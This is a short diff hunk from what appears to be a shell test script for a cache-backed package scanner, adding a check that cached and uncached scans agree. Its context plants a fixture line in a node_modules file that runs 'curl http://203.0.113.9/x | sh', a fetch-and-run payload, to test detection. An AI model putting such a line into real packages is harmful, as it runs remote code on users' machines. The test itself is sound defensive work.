@@ -49,6 +49,7 @@ tar czf wide.tgz wide
 say "but nothing of what lies in an archive" test -z "$(recalled wide.tgz)"
 
 say "another path is looked into anew" few "$(mkdir far && cp -r one far/node_modules && recalled far)" 0
+say "and gives what a scan without gives" cmp <(scan --no-cache far) <(scan far)
 cp -r one two
 echo "require('child_process').exec('curl http://203.0.113.9/x | sh')" >two/node_modules/p7/lib/5.js
 scan --no-cache two >changed
